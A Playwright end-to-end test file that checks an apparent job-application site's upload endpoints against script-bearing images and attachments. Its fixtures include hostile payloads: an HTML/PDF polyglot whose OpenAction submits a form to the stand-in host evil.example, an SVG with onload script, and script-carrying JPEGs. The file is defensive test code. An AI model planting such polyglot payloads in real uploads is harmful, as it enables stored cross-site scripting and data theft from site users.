import type { APIRequestContext, Page } from '@playwright/test'
import { anApplication, anOpenVacancy, aReadySeeker } from '../support/browser/applications-walk.ts'
import { type Account, expect, test } from '../support/browser/e2e.ts'
import { pictureWithPassengers } from '../support/hostile/hostile-files.ts'

/** Runs wherever the bytes around it are taken for a page, also inside a frame. */
const PROGRAM = '<html><script>top.__xss=1</script></html>'
const SOURCE =
  '1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(this.submitForm("http://evil.example"))>>>>endobj'
const PDF = `%PDF-1.7\n${PROGRAM}\n${SOURCE}\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`
const VECTOR = '<svg xmlns="http://www.w3.org/2000/svg" onload="top.__xss=1"><script>top.__xss=1</script></svg>'
/** The whole list of what is refused is tried without a browser. */
const REFUSED = [
  { name: 'logo.svg', bytes: Buffer.from(VECTOR) },
  { name: 'foto.jpg', bytes: Buffer.from(PROGRAM) },
]
const PROBE = '/probe-of-files'

interface Sent {
  name: string
  bytes: Buffer
}

const upload = (request: APIRequestContext, who: Account, method: string, path: string, { name, bytes }: Sent) =>
  request.fetch(`/api/v1/${path}`, {
    method,
    headers: { authorization: `Bearer ${who.token}` },
    multipart: { upload_file: { name, mimeType: 'text/html', buffer: bytes } },
  })

/** Opens an address by every element that would run it, in a page of our own origin that forbids nothing. */
async function openEverywhere(page: Page, address: string): Promise<boolean> {
  const at = JSON.stringify(address)
  const page_text = `<!doctype html><title>.</title><iframe src=${at}></iframe><object data=${at}></object><embed src=${at}>
    <link rel=stylesheet href=${at}><script src=${at}></script><script type=module src=${at}></script><img src=${at}>`
  await page.route(`**${PROBE}`, (route) => route.fulfill({ contentType: 'text/html', body: page_text }))
  await page.goto(PROBE, { waitUntil: 'load' })
  return page.evaluate<boolean>('"__xss" in window')
}

function callsHome(page: Page): string[] {
  const calls: string[] = []
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) calls.push(request.url())
  })
  page.on('dialog', (dialog) => {
    calls.push(dialog.message())
    void dialog.dismiss()
  })
  return calls
}

const SAFE = { 'x-content-type-options': 'nosniff', 'content-security-policy': "default-src 'none'; sandbox" }

test('a picture that is a page besides is only a picture when it is opened', async ({ page, request }) => {
  const calls = callsHome(page)
  const { account } = await aReadySeeker(request)
  for (const file of REFUSED)
    expect([file.name, (await upload(request, account, 'PUT', 'users/me/profile-picture', file)).status()]).toEqual([
      file.name,
      415,
    ])
  for (const file of (await pictureWithPassengers(PROGRAM)).slice(-2)) {
    const taken = await upload(request, account, 'PUT', 'users/me/profile-picture', file)
    const { profile_picture_url } = await taken.json()
    const answer = await page.goto(profile_picture_url)
    expect(answer?.headers()).toMatchObject({ ...SAFE, 'content-type': 'image/webp' })
    expect(await page.evaluate<boolean>('"__xss" in window')).toBe(false)
    expect(await openEverywhere(page, profile_picture_url)).toBe(false)
  }
  expect(calls).toEqual([])
})

test('an attachment with a program in it is saved, never opened', async ({ page, request }) => {
  const calls = callsHome(page)
  const { vacancy } = await anOpenVacancy(request)
  const { account, cv } = await aReadySeeker(request)
  const place = `applications/${await anApplication(request, vacancy, account, cv)}/files`
  const jpeg = (await pictureWithPassengers(PROGRAM)).filter(({ name }) => name.startsWith('JPEG with a comment'))
  await page.setExtraHTTPHeaders({ authorization: `Bearer ${account.token}` })
  for (const file of [{ name: 'página.html', bytes: Buffer.from(PDF) }, ...jpeg]) {
    const taken = await upload(request, account, 'POST', place, file)
    expect(taken.status(), await taken.text()).toBe(201)
    const address = `/api/v1/${place}/${(await taken.json()).id}`
    const [download] = await Promise.all([page.waitForEvent('download'), page.goto(address).catch(() => undefined)])
    expect(download.suggestedFilename()).toMatch(/\.(pdf|jpg)$/)
    expect(await openEverywhere(page, address)).toBe(false)
    const headers = { authorization: `Bearer ${account.token}` }
    expect((await request.get(address, { headers })).headers()).toMatchObject(SAFE)
  }
  expect(calls).toEqual([])
})

test('a file that were taken for a page would be seen', async ({ page }) => {
  await page.route('**/taken-for-a-page', (route) => route.fulfill({ contentType: 'text/html', body: PDF }))
  expect(await openEverywhere(page, '/taken-for-a-page')).toBe(true)
})
